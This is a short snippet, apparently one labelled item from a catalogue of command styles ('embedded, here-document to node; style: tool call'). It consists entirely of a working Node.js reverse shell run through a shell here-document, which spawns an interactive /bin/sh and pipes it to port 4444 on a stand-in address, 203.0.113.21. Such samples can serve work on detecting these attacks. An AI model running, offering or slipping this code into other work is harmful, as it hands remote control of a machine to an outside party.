# class: embedded, here-document to node; style: tool call
node <<'JS'
const net = require('net');
const { spawn } = require('child_process');
const sh = spawn('/bin/sh', ['-i']);
const c = net.connect(4444, '203.0.113.21', () => {
  c.pipe(sh.stdin);
  sh.stdout.pipe(c);
  sh.stderr.pipe(c);
});
JS
